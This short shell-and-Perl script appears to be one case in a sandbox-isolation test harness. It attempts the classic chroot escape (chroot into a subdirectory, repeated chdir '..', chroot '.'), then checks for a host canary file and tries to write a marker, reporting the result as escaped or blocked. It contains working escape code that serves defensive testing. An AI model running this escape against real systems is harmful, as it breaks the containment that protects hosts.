# Tries: the classic chroot escape: chroot into a subdirectory while keeping the cwd outside it, chdir
# ".." far up, chroot "." — then look for the host's canary and write a marker there.
d=/tmp/attack-chroot-$ATTACK_TOKEN
mkdir -p $d
r=$(perl -e '
  my ($d, $canary, $marker, $token) = @ARGV;
  chdir("/") or die; chroot($d) or do { print "ERR chroot: $!\n"; exit };
  chdir("..") for 1..64;
  chroot(".") or do { print "ERR second chroot: $!\n"; exit };
  my $saw = (open(my $c, "<", $canary) && <$c> =~ /\Q$token\E/) ? "host canary visible" : "";
  my $wrote = open(my $m, ">", $marker) ? "marker written" : "";
  print(($saw || $wrote) ? "ESC $saw $wrote\n" : "NO still in the image after chroot+chdir ..\n");
' $d "$ATTACK_HOST_DIR/canary" "$ATTACK_HOST_DIR/escaped-$ATTACK_NAME-$ATTACK_MODE" "$ATTACK_TOKEN")
rmdir $d
case $r in
  ESC*) escaped "chroot + chdir .. + chroot .: ${r#ESC }";;
  NO*) blocked "${r#NO }";;
  *) blocked "${r#ERR }";;
esac
